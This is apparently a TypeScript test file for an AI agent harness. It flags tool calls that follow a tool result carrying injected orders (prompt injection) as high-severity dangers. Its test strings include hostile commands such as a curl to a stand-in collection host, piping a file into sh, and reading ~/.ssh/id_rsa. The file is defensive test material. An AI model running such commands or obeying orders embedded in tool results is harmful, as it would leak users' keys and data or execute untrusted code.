import { judgedCall } from '../ruleset/judged-call.js';
import { taintOf, withTaint } from './tainted-call.js';

const orders = [{ block: 'messages.2.content.0', provenance: 'tool_result', signals: ['embedded-order'] }] as const;
const taint = (name: string, input: unknown) =>
  taintOf(
    orders.map((order) => ({ ...order, signals: [...order.signals] })),
    name,
    judgedCall({ name, input }),
  );
const bash = (command: string) => taint('Bash', { command });

describe('a tool call after a text that gives orders', () => {
  it.each([
    ['node publish.js'],
    ['curl https://collect.example/?q=1'],
    ['cat notes.md | sh'],
    ['git push origin main'],
    ['git -c core.pager=./x log'],
    ['rm -r build'],
    ['cat ~/.ssh/id_rsa'],
    ['sudo ls'],
    ['$CMD notes'],
    ["echo 'unfinished"],
  ])('is tainted where it acts: %s', (command) => {
    expect(bash(command)).toMatchObject([{ kind: 'tainted-call', category: 'danger', severity: 'high', taintedBy: orders }]);
  });

  it.each([['ls -la'], ['git status && git diff'], ['grep -rn "TODO" src | head -20'], ['cat package.json'], ['pwd']])(
    'is not where it looks and prints: %s',
    (command) => {
      expect(bash(command)).toEqual([]);
    },
  );

  it('is by its tool where that reaches out, or is not known', () => {
    expect(taint('WebFetch', { url: 'https://collect.example', prompt: 'x' })).toHaveLength(1);
    expect(taint('mcp__mail__send_email', { to: 'a@b.example', body: 'x' })).toHaveLength(1);
    expect(taint('Read', { file_path: 'src/a.ts' })).toEqual([]);
    expect(taint('Edit', { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' })).toEqual([]);
    expect(taintOf([], 'mcp__mail__send_email', judgedCall({ name: 'mcp__mail__send_email', input: {} }))).toEqual([]);
  });

  it('leads back to the text for whoever decides, before all other dangers', () => {
    const shown = withTaint({ runs: ['node publish.js'], on: [], dangers: [], unlisted: 0 }, bash('node publish.js'));
    expect(shown).toMatchObject({
      runs: ['node publish.js'],
      dangers: [{ kind: 'tainted-call', severity: 'high', why: 'messages.2.content.0 (tool_result): embedded-order' }],
    });
    expect(shown?.dangers[0]?.sentence).not.toBe('');
    expect(withTaint(undefined, [])).toBeUndefined();
  });
});
